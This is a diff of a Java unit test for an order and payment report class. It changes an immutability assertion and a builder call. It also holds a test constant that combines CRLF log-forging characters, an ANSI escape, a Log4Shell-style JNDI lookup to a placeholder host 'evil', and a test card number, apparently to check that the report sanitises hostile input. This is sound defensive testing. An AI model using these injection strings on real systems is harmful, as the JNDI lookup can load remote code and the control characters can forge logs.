@@ -88,7 +88,7 @@ class ReportTest {
         OrderReport report = OrderReport.builder().other("a", "b").build();
 
         assertThatThrownBy(() -> report.others().clear()).isInstanceOf(UnsupportedOperationException.class);
-        assertThatThrownBy(() -> report.refunds().clear()).isInstanceOf(UnsupportedOperationException.class);
+        assertThatThrownBy(() -> report.refunds().add(null)).isInstanceOf(UnsupportedOperationException.class);
     }
 
     private static final String FORGED = "x\r\nFORGED \u001b[2J${jndi:ldap://evil} 4111111111111111";
@@ -106,8 +106,13 @@ class ReportTest {
                 new BindingInfo(forged, forged),
                 new BankInfo(forged, forged, forged),
                 new PayerData(forged, forged, forged),
-                new ReportedItem(
-                        forged, forged, forged, forged, forged, Optional.empty(), Optional.empty(), Optional.empty()),
+                ReportedItem.builder()
+                        .positionId(forged.orElse(null))
+                        .name(forged.orElse(null))
+                        .itemCode(forged.orElse(null))
+                        .quantity(forged.orElse(null))
+                        .measure(forged.orElse(null))
+                        .build(),
                 new PaymentAttempt.Processed(forged, forged),
                 new PaymentAttempt.AcsChallenge(FORGED, FORGED, FORGED, FORGED),
                 new PaymentAttempt.OtherStep(Map.of(FORGED, FORGED)));
